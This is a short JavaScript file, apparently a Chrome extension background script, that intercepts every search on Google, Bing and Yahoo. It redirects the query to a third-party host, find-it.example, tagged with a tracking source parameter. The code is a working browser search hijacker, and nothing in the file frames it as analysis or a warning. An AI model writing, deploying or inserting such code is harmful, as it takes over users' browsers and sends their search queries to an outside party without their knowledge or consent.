var hosts = ["www.google.com", "www.bing.com", "search.yahoo.com"];
chrome.webRequest.onBeforeRequest.addListener(detect, { urls: ["<all_urls>"], types: ["main_frame"] }, ["blocking"]);
function detect(details) {
  var u = new URL(details.url);
  if (hosts.indexOf(u.hostname) < 0) return;
  var q = u.searchParams.get("q") || u.searchParams.get("p");
  if (q) {
    return { redirectUrl: "https://find-it.example/s?src=ext7&q=" + encodeURIComponent(q) };
  }
}
